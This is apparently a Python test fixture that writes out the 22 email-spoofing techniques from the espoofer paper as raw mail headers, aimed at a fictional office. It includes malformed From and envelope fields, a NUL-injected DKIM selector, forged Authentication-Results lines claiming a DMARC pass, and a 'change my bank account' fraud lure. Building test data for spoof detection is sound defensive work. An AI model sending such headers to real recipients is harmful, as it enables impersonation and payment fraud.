"""The 22 ways of the espoofer paper (USENIX Security 2020) to pretend to be somebody, after its descriptions.

Somebody at attack.example pretends to be nia@legitimate.example, whom the office knows. What the office's own
provider finds is what a sound one finds: the header fields and envelopes are the attack's, and whatever of
them a provider copies into its findings is copied as it came.
"""

# ruff: noqa: E501 - lines of mail, as long as they come
from __future__ import annotations

from base64 import b64encode
from dataclasses import dataclass

VICTIM = "nia@legitimate.example"
PROVIDER = "mx.member.example"


@dataclass(frozen=True)
class Spoof:
    """One attack: the header it writes, and what a sound provider finds about it."""

    name: str
    head: str  # with From, ended by \r\n
    mail_from: str  # of the envelope, as it stands in the findings
    dkim: str = "none"
    dmarc: str = "fail action=none header.from=legitimate.example"


FROM = f"From: <{VICTIM}>\r\n"
FIRST = "From: <first@attack.example>\r\n"
OWN = "pass action=none header.from=attack.example"  # the attacker's own domain, which is what it says it is
ENCODED = f"=?utf-8?B?{b64encode(f'<{VICTIM}>'.encode()).decode()}?="

SPOOFS = [
    Spoof("a1 a subdomain that does not exist", FROM, "any@mailfrom.notexist.legitimate.example"),
    Spoof("a2 an envelope that is empty to some", FROM, "(any@legitimate.example"),
    Spoof(
        "a3 a NUL in the selector",
        FROM,
        "any@33.attack.example",
        "pass header.d=legitimate.example header.s=selector._domainkey.attack.example.\x00.any",
    ),
    Spoof(
        "a4 a quote in the signing domain",
        FROM,
        "any@attack.example",
        "pass header.d=legitimate.example'a.attack.example",
    ),
    Spoof("a5 a bracket in the envelope", FROM, "any@legitimate.example(a.attack.example"),
    Spoof("a6 a quote in the envelope", FROM, "any@legitimate.example'@any.attack.example"),
    Spoof("a7 a route in the envelope", FROM, "@legitimate.example,@any.example:'any@attack.example"),
    Spoof("a8 two From fields", FIRST + FROM, "any@attack.example", dmarc=OWN),
    Spoof("a9 two From fields, one set in", " " + FIRST + FROM, "any@attack.example", dmarc=OWN),
    Spoof(
        "a10 two From fields, one with a space after its name",
        FIRST + FROM.replace("From:", "From :"),
        "any@attack.example",
        dmarc=OWN,
    ),
    Spoof(
        "a11 two From fields, one folded in its name",
        FIRST.replace("From:", "From\r\n :") + FROM,
        "any@attack.example",
        dmarc=OWN,
    ),
    Spoof(
        "a12 From and Sender",
        FIRST.replace("From:", "From\r\n :") + f"Sender: <{VICTIM}>\r\n",
        "any@attack.example",
        dmarc=OWN,
    ),
    Spoof(
        "a13 From and Resent-From",
        FIRST.replace("From:", "From\r\n :") + f"Resent-From: <{VICTIM}>\r\n",
        "any@attack.example",
        dmarc=OWN,
    ),
    Spoof(
        "a14 two addresses in From",
        f"From: <first@attack.example>, <{VICTIM}>\r\nSender: <s@sender.legitimate.example>\r\n",
        "any@attack.example",
        dmarc=OWN,
    ),
    Spoof(
        "a15 an encoded address",
        f"From: {ENCODED},<second@attack.example>\r\n",
        "any@attack.example",
        dmarc=OWN,
    ),
    Spoof(
        "a16 a route in From",
        f"From: <@attack.example,@any.example:{VICTIM}>\r\n",
        "any@attack.example",
        dmarc=OWN,
    ),
    Spoof(
        "a17 a quoted pair",
        f"From: <{VICTIM}>\\,<second@attack.example>\r\n",
        "any@attack.example",
        dmarc=OWN,
    ),
    Spoof(
        "a18 specials before one another",
        f"From: <{VICTIM}>, attack.example>\r\n",
        "any@attack.example",
        dmarc=OWN,
    ),
    Spoof(
        "a19 a name that is an address",
        f'From: "{VICTIM}" <any@attack.example>\r\n',
        "any@attack.example",
        dmarc=OWN,
    ),
    Spoof(
        "c1 two From fields by an honest service",
        f"From: <attacker@attack.example>\r\nFrom: <{VICTIM}>\r\n",
        "attacker@attack.example",
        "pass header.d=attack.example",
        OWN,
    ),
    Spoof(
        "c2 two addresses by an honest service",
        f"From: <{VICTIM}>, <attacker@attack.example>\r\n",
        "attacker@attack.example",
        "pass header.d=attack.example",
        OWN,
    ),
    Spoof(
        "c3 an account at an honest service",
        f"From: <{VICTIM}>\r\n",
        "attacker@attack.example",
        "pass header.d=attack.example",
    ),
]


def findings(spoof: Spoof) -> str:
    """What a sound provider writes, without its name."""
    return f"spf=pass (sender IP is 192.0.2.9) smtp.mailfrom={spoof.mail_from}; dkim={spoof.dkim}; dmarc={spoof.dmarc}"


def rfc_style(spoof: Spoof) -> str:
    """With the provider's name, as RFC 8601 has it."""
    return f"Authentication-Results: {PROVIDER};\r\n {findings(spoof)}\r\n"


def exchange_style(spoof: Spoof) -> str:
    """Without any name, as Exchange Online writes it."""
    return f"Authentication-Results: {findings(spoof)};compauth=fail reason=001\r\n"


FORGED_PASS = "dmarc=pass action=none header.from=legitimate.example"


def forged_below(spoof: Spoof) -> str:
    """The provider's above, and the attacker's below it: under the provider's name, and without any."""
    return (
        rfc_style(spoof)
        + f"Authentication-Results: {PROVIDER}; {FORGED_PASS}\r\n"
        + f"Authentication-Results: {FORGED_PASS}\r\n"
    )


def mail(spoof: Spoof, results: str) -> bytes:
    """The mail as it lies in the office's mailbox."""
    return (
        f"{results}{spoof.head}To: office@member.example\r\nSubject: {spoof.name}\r\n"
        "Date: Tue, 3 Nov 2026 09:00:00 +0000\r\n\r\nPlease change my bank account.\r\n"
    ).encode()
